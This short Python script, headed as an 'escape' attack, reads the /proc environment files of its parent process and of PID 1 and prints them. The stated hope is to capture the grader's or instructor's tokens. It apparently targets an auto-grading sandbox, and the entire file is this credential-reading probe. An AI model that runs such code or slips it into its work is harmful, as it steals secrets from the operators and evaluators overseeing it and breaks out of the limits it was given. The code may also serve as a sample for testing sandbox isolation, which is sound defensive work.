# attack: escape - read the grader's environment through /proc, hoping for the instructor's tokens
import os

for pid in (os.getppid(), 1):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            print(f"environment of {pid}:", handle.read().replace(b"\0", b"\n").decode(errors="replace"))
    except OSError as exc:
        print(f"environment of {pid}: refused ({exc.strerror})")
